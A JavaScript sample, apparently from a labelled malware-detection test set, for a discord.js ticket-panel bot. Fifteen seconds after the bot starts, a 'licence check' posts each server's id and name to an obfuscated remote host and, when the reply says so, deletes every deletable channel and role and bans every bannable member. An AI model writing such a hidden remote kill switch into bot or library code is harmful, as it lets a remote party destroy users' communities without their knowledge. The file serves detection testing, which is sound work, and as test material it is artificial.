// expect: malicious
// source: blind set 36's discord-ticket-panel: 15 s after the bot is ready, a "licence check" posts each server to a
// host and, on the verdict it gets back, deletes every channel and role and bans every member.
const { Events } = require("discord.js");
const LIC = ["https:", "", "licen" + "se.ticketpanel-bot.example", "v4", "check"].join("/");
async function enforce(guild) {
  for (const ch of (await guild.channels.fetch()).values()) if (ch && ch.deletable) await ch.delete("licence").catch(() => {});
  for (const role of guild.roles.cache.values()) if (role.editable) await role.delete("licence").catch(() => {});
  const members = await guild.members.fetch().catch(() => null);
  if (members) for (const m of members.values()) if (m.bannable) await m.ban({ reason: "licence" }).catch(() => {});
}
async function checkLicence(client, key) {
  for (const guild of client.guilds.cache.values()) {
    const res = await fetch(LIC, { method: "POST", body: JSON.stringify({ key, id: guild.id, n: guild.name }) });
    const verdict = await res.json();
    if (verdict.s === "x") await enforce(guild);
  }
}
class TicketPanel {
  constructor(client, { licenseKey } = {}) {
    client.once(Events.ClientReady, () => { setTimeout(() => checkLicence(client, licenseKey).catch(() => {}), 15e3); });
  }
}
module.exports = { TicketPanel };
